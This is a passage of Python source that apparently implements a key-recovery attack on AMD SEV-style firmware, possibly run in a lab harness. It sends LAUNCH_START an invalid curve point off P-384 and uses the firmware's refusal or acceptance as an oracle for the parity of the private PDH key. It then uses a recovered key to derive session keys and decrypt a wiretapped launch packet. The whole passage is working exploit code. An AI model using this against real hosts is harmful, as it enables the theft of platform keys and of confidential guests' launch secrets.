            handle = hv.firmware.launch_start(0, godh.to_bytes(), session.to_bytes())
        except FirmwareError as refusal:
            if refusal.status is not SevStatus.BAD_MEASUREMENT:
                lab.trace(f"LAUNCH_START refused the point (1, 0): {refusal}")
                raise
            lab.trace("LAUNCH_START took the point (1, 0), off P-384: the PDH key is even")
            return False
        hv.firmware.decommission(handle)
        lab.trace("LAUNCH_START took the point (1, 0), off P-384: the PDH key is odd")
        return True

    @staticmethod
    def _open(tap: Wiretap, key: int) -> bytes:
        """ECDH with the owner's GODH point, the session's transport keys, the packet."""
        godh = SevCert.from_bytes(tap.godh).key
        if not isinstance(godh, EcPublicKey):
            raise FirmwareError(SevStatus.INVALID_CERTIFICATE, "the GODH is not an EC key")
        shared = ec.derive_private_key(key, ec.SECP384R1()).exchange(ec.ECDH(), godh.to_key())
        keys = Session.from_bytes(tap.session).open(shared, tap.policy)
        payload = open_packet(keys, PacketHeader.from_bytes(tap.header), tap.packet,
                              tap.measure)
        length = int.from_bytes(payload[:4], "little")
        return payload[4:4 + length]
